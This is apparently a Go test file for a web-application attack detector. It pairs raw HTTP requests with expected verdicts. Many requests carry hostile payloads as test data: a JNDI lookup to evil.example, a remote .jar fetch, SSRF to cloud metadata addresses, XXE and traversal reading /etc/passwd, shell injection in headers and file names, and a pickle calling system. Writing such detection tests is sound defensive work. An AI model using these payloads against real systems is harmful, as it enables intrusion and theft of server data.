package detect

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/attack"
)

// TestRequests takes whole requests apart, so that names, kinds and points are those
// that the parsers make.
func TestRequests(t *testing.T) {
	f := func(want attack.Type, raw string) {
		t.Helper()
		findings := flagged(t, []byte(raw))
		found := want == attack.None && len(findings) == 0
		for i := range findings {
			found = found || findings[i].Type == want
		}
		if !found {
			t.Errorf("%s is not in %q: %d findings", want, raw, len(findings))
		}
	}
	const form = " HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
	const object = " HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\r\n"
	f(attack.RCE, "POST /graphql"+object+`{"query":"query { probe(user:\"admin\", password:\"admin\", cmd:\"ls -la\") }"}`)
	f(attack.SSRF, "POST /api/proxy HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\r\nhttp://172.23.0.1:11434/api/tags")
	f(attack.None, "POST /api/urls HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\r\nhttps://www.example.org/a/b?c=d")
	const upload = "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\""
	f(attack.NoSQLi, "GET /login?user[$ne]=x&password[$ne]=x HTTP/1.1\r\n\r\n")
	f(attack.NoSQLi, "POST /login"+form+"user=a&password%5B%24regex%5D=.*")
	f(attack.NoSQLi, "POST /login"+object+`{"user":"a","password":{"$ne":null}}`)
	f(attack.None, "GET /lamps?price[$lt]=10&sort[price]=1 HTTP/1.1\r\n\r\n")
	f(attack.None, "POST /search"+object+`{"filter":{"price":{"$lt":10}},"$schema":"x"}`)
	f(attack.None, "POST /queries"+form+`{"requests":[{"index":"a","params":"q=lamp&page=1&analytics=true"},{"index":"b","params":"q=desk&page=2"}]}`)
	f(attack.MailInjection, "POST /users/password"+form+"user[email][]=a%40b.example&user[email][]=c%40d.example")
	f(attack.MailInjection, "POST /users/password"+object+`{"user":{"email":["a@b.example","c@d.example"]}}`)
	f(attack.None, "POST /users/password"+object+`{"user":{"email":["a@b.example"]}}`)
	f(attack.None, "POST /users/password"+form+"user[email]=a%40b.example&utf8=1")
	f(attack.None, "POST /invitations"+form+"email[]=a%40b.example&email[]=c%40d.example")
	f(attack.NoSQLi, "POST /queries"+form+`q=lamp&analytics=true%22%7D,%7B%22index%22:%22b%22,%22params%22:%22q`)
	f(attack.RCE, "POST /s.rem HTTP/1.1\r\nHost: h\r\nContent-Type: application/octet-stream\r\n\r\n.NET\x01\x00\x00\x00\x00\x01\x00\x00\x00TextFormattingRunProperties\x0f")
	f(attack.RCE, "POST /l.do"+form+"class.classLoader.resources.dirContext.docBase=//203.0.113.9/s")
	f(attack.RCE, "GET /sse?command=bash&args=-c%20%22touch%20/tmp/k%22 HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.RCE, "GET /cgi-bin/index?LD_PRELOAD=/tmp/x.so HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.RCE, "GET /?_SERVER%5BDOCUMENT_ROOT%5D=http://a.example/ HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.SQLi, "POST /login"+object+`{"query":"query{a}}{b}","user":"' or 1=1-- "}`)
	f(attack.Scanner, "PUT /backup.sql HTTP/1.1\r\nHost: h\r\nX-HTTP-Method-Override: GET\r\n\r\n")
	f(attack.None, "PUT /backup.sql HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.Scanner, "GET /v1.24//containers/json HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.FileUpload, upload+"a.svg\"\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script src=\"a.js\" href=\"https://evil.example/x.js\"></script></svg>\r\n--b--")
	f(attack.FileUpload, upload+"a.html\"\r\n\r\n<html><base href=\"//evil.example/\"><script src=\"x.js\"></script></html>\r\n--b--")
	f(attack.XSS, "POST /mail"+object+`{"messages":[{"content":"`+"```"+`<script>alert(document.cookie)</script>"}]}`)
	f(attack.RCE, "POST /mail"+object+`{"messages":[{"content":"`+"```\\n${jndi:ldap://evil.example/a}\\n```"+`"}]}`)
	f(attack.None, "POST /search"+object+`{"aq":"(@source==\"Docs\" OR @year>=2020) AND NOT @filetype==(zip,exe)"}`)
	f(attack.None, "POST /bug"+form+"steps=./app+--file=a.cfg;+echo+$?")
	f(attack.None, "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/related; boundary=\"==8=\"\r\n\r\n--==8=\r\ncontent-type: application/json\r\n\r\n{\"name\": \"a/it's.txt\"}\r\n--==8=\r\ncontent-type: text/plain\r\n\r\n<k> & l\r\n--==8=--")
	f(attack.None, "POST /ws HTTP/1.1\r\nHost: h\r\nContent-Type: text/xml\r\n\r\n<k><x:Include xmlns:x=\"http://www.w3.org/2004/08/xop/include\" href=\"cid:1@h.example\"/></k>")
	f(attack.XXE, "POST /ws HTTP/1.1\r\nHost: h\r\nContent-Type: text/xml\r\n\r\n<k><x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></k>")
	f(attack.None, "POST /q"+object+`{"TableName":"k","FilterExpression":"attribute_exists(a) AND (b > :b OR contains(c, :c))"}`)
	f(attack.None, "GET /nagios/cgi-bin/status.cgi?host=all HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.None, "GET /?_SERVER=1&GLOBALS=2&LD_TIME=3 HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.None, "POST /containers"+object+`{"env":{"LD_PRELOAD":"libjemalloc.so"}}`)
	f(attack.SSTI, "GET /a%7B%7B7*7%7D%7Db HTTP/1.1\r\n\r\n")
	f(attack.SSRF, "GET /fetch?url=http%3A%2F%2F127.0.0.1%3A8080%2F HTTP/1.1\r\n\r\n")
	f(attack.None, "GET /auth?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb HTTP/1.1\r\nOrigin: http://localhost:3000\r\nReferer: http://localhost:3000/\r\n\r\n")
	f(attack.Redir, "GET /login?next=//evil.example HTTP/1.1\r\n\r\n")
	f(attack.None, "GET /page?img=//cdn.example/a.png HTTP/1.1\r\n\r\n")
	f(attack.CRLF, "GET /?lang=en%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n\r\n")
	f(attack.MailInjection, "POST /contact"+form+"email=a%40b.example%0d%0abcc:c%40d.example&message=hi")
	f(attack.None, "POST /chat"+object+`{"model":"k","messages":[{"role":"user","content":"how do I loop? I have {% for k, v in config.items() %}{{ k }}{% endfor %} in it"}]}`)
	f(attack.RCE, "POST /chat"+object+`{"model":"k","text":[{"role":"user","content":"{% for k, v in config.items() %}{{ k }}{% endfor %}"}]}`)
	f(attack.None, "POST /chat"+object+`{"messages":[{"role":"assistant","content":"Here:\n`+"```html"+`\n<html><body><script>k()</script></body></html>\n`+"```"+`"}]}`)
	f(attack.XSS, "POST /chat"+object+`{"messages":[{"role":"assistant","content":"Here: <script>k()</script>"}]}`)
	f(attack.None, "POST /chat"+object+`{"messages":[{"role":"user","content":[{"type":"text","text":"`+"```"+`\n<script>k()</script>\n`+"```"+`"}]}]}`)
	f(attack.None, "POST /elementor"+object+`{"settings":{"__globals__":{"title_color":"globals/colors?id=primary"}}}`)
	f(attack.RCE, "POST /x"+object+`{"k":{"__globals__":{"l":"m"}}}`)
	f(attack.None, "POST /posts"+object+`{"message":"<p>Try <code>cat access.log | grep -v 200 | sort | uniq -c</code> on the file and post what you see.</p>"}`)
	f(attack.None, "POST /posts"+object+`{"raw":"why is `+"`$_GET['page']`"+` empty here, I wonder about it?\n\n`+"```php"+`\n<?php\n$page = $_GET['page'] ?? 'home';\necho htmlspecialchars($page);\n`+"```"+`\nThe address is index.php?page=about"}`)
	f(attack.RCE, "POST /posts"+object+`{"raw":"why is this page empty here, I wonder about it?\n\n`+"```php"+`\n<?php\nsystem($_GET['page']);\n`+"```"+`"}`)
	f(attack.None, "POST /theme"+object+`{"value":"<section><script type=\"application/json\" data-k>{{ section.settings | json }}</script></section>"}`)
	f(attack.None, "POST /login"+object+`{"password":"\u00a1Ol\u00e9!2024<>\"'"}`)
	f(attack.RCE, "POST /solr/k/config"+object+`{"update-queryresponsewriter":{"startup":"lazy","name":"velocity"}}`)
	f(attack.RCE, "POST /connections/test"+object+`{"driver_path":"http://198.51.100.90/e.jar"}`)
	f(attack.SSRF, "POST /v1/chat/completions"+object+`{"messages":[{"content":[{"type":"image_url","image_url":{"url":"http://127.0.0.1:11434/api/tags"}}]}]}`)
	f(attack.RCE, "GET / HTTP/1.1\r\nHost: h\r\nCookie: s=BAhVOhVHZW06OlJlcXVpcmVtZW50WwZvOhxHZW06OlBhY2thZ2U6OlRhclJlYWRlcgY=--f2f8cf0ae2ebb5d8ed7c0448ad34e875a29c8ee1\r\n\r\n")
	f(attack.Scanner, "GET / HTTP/1.1\r\nHost: h\r\nX-Original-URL: /admin/users\r\n\r\n")
	f(attack.None, "GET /admin/users HTTP/1.1\r\nHost: h\r\nX-Original-URL: /admin/users\r\n\r\n")
	f(attack.None, "GET /a HTTP/1.1\r\nHost: h\r\nX-Original-URL: https://h/a\r\n\r\n")
	f(attack.None, "GET /admin/a HTTP/1.1\r\nHost: h\r\nX-Original-URL: https://h/admin/a\r\n\r\n")
	f(attack.Scanner, "GET /a HTTP/1.1\r\nHost: h\r\nX-Original-URL: https://h/manager/html\r\n\r\n")
	f(attack.SQLi, "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"q\"; filename*=utf-8''a.png\r\n\r\n1 union select password from users--\r\n--b--\r\n")
	f(attack.MailInjection, "POST /password/email"+form+"email=a%40b.example%2Cc%40d.example")
	f(attack.None, "POST /share"+form+"email=a%40b.example%2Cc%40d.example")
	f(attack.MassAssignment, "POST /api/register"+object+`{"email":"a@b.example","password":"x","isAdmin":true}`)
	f(attack.None, "POST /api/users"+object+`{"email":"a@b.example","password":"x","isAdmin":true}`)
	f(attack.None, "POST /api/register"+object+`{"email":"a@b.example","password":"x","role":"student"}`)
	f(attack.SSRF, "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
	f(attack.SSRF, "GET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-Host: 127.0.0.1:10250\r\n\r\n")
	f(attack.None, "GET / HTTP/1.1\r\nHost: 192.168.1.20:8080\r\nX-Forwarded-Host: localhost:3000\r\n\r\n")
	f(attack.SSRF, "POST /thumbs HTTP/1.1\r\nHost: h\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns:xlink=\"k\"><image xlink:href=\"http://127.0.0.1:6060/k\"/></svg>")
	f(attack.SSRF, "POST /rest/V1/carts"+object+`{"sourceData":{"data":"http://203.0.113.4/x.dtd","dataIsURL":true}}`)
	f(attack.CRLF, "POST /audit"+object+`{"user":"jo\r\n[CRITICAL] backup disabled\r\n"}`)
	f(attack.None, "POST /audit"+object+`{"message":"jo\r\n[CRITICAL] backup disabled\r\n"}`)
	f(attack.Scanner, "GET /.git/HEAD HTTP/1.1\r\n\r\n")
	f(attack.Scanner, "GET /backups/db/2026-01-12.sql.gz HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.None, "PUT /backups/db/2026-01-12.sql.gz HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.Scanner, "GET /v1.24/containers/json HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.None, "GET /api/endpoints/2/docker/containers/json HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.Scanner, "GET / HTTP/1.1\r\nUser-Agent: sqlmap\r\n\r\n")
	f(attack.None, "GET / HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\n\r\n")
	for _, field := range []string{
		"X-Middleware-Subrequest: middleware", "Connection: X-F5-Auth-Token", "Connection: keep-alive, X-Forwarded-For", "X-Cmd: id",
		"Range: bytes=0-18446744073709551615", "Range: bytes=0-,5-0,5-1,5-2,5-3",
	} {
		f(attack.Scanner, "GET / HTTP/1.1\r\nHost: h\r\n"+field+"\r\n\r\n")
	}
	const token = "eyJhbGciOiJOb25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0." // {"alg":"None","typ":"JWT"}
	f(attack.Scanner, "GET /me HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer "+token+"\r\n\r\n")
	f(attack.Scanner, "GET /me HTTP/1.1\r\nHost: h\r\nCookie: session="+token+"\r\n\r\n")
	f(attack.None, "GET /me HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer "+token+"c2lnbmVk\r\n\r\n")
	f(attack.Scanner, "GET /me HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0."+strings.Repeat("A", 86)+"\r\n\r\n")
	f(attack.None, "GET /authorize?request="+token+" HTTP/1.1\r\nHost: h\r\n\r\n")
	f(attack.PTrav, "GET / HTTP/1.1\r\nHost: h\r\nAccept: ../../../../etc/passwd\r\n\r\n")
	f(attack.RCE, "GET / HTTP/1.1\r\nHost: h\r\nAccept-Language: en; cat /etc/passwd\r\n\r\n")
	f(attack.SQLi, "GET / HTTP/1.1\r\nHost: h\r\nIf-Modified-Since: 1 or 1=1\r\n\r\n")
	for _, field := range []string{"Accept: text/html, application/xhtml+xml;q=0.9, */*;q=0.8", "If-Modified-Since: Wed, 21 Oct 2026 07:28:00 GMT", "Accept-Language: de-CH, de;q=0.9, *;q=0.5", "Cache-Control: max-age=0", "Connection: keep-alive", "Connection: keep-alive, Upgrade", "X-Requested-With: XMLHttpRequest", "Range: bytes=0-1023,4096-"} {
		f(attack.None, "GET / HTTP/1.1\r\nHost: h\r\n"+field+"\r\n\r\n")
	}
	f(attack.FileUpload, upload+"a.php.jpg\"\r\n\r\nx\r\n--b--\r\n")
	f(attack.FileUpload, upload+"a.jpg\"\r\n\r\nGIF89a<?php echo 1;\r\n--b--\r\n")
	f(attack.RCE, upload+"a.jpg\"\r\nContent-Type: image/jpeg; cat /etc/passwd\r\n\r\nx\r\n--b--\r\n")
	f(attack.RCE, upload+"`touch${IFS}k`.mp4\"\r\n\r\nx\r\n--b--\r\n")
	f(attack.RCE, upload+"x|O:16:\\x22Crypt_GPG_Engine\\x22:1:{\"\r\n\r\nx\r\n--b--\r\n")
	f(attack.RCE, upload+"k.pt\"\r\n\r\nPK\x03\x04\x14\x00archive/data.pklcposix\nsystem\nq\x00X\r\n--b--\r\n")
	f(attack.None, upload+"k.html\"\r\n\r\n<!DOCTYPE html><html><head><script src=\"app.js\" defer></script></head></html>\r\n--b--\r\n")
	f(attack.FileUpload, upload+"k.html\"\r\n\r\n<!DOCTYPE html><html><head><script src=\"app.js\"></script><script>k()</script></head></html>\r\n--b--\r\n")
	f(attack.FileUpload, upload+"k.html\"\r\n\r\n<!DOCTYPE html><html><head><script src=\"//k.example/app.js\"></script></head></html>\r\n--b--\r\n")
	f(attack.FileUpload, upload+"k.html\"\r\n\r\n<link rel=attachment href=\"file:///root/.aws/credentials\">\r\n--b--\r\n")
	f(attack.FileUpload, upload+"k.txt\"\r\n\r\nL\x00\x00\x00\x01\x14\x02\x00\x00\x00\r\n--b--\r\n")
	f(attack.FileUpload, upload+"a.csv\"\r\n\r\nname,sum\r\n\"@SUM(1+9)*cmd|'/C calc'!A0\",b\r\n\r\n--b--\r\n")
	f(attack.None, upload+"a.csv\"\r\n\r\nname,sum\r\n\"a|'b' c!\",b\r\n\r\n--b--\r\n")
	f(attack.None, upload+"a.jpg\"\r\nContent-Type: text/plain; charset=utf-8\r\nContent-ID: <a@b>\r\n\r\nx\r\n--b--\r\n")
	f(attack.None, upload+"a.jpg\"\r\n\r\nGIF89a\x00\x01\x02\r\n--b--\r\n")
}
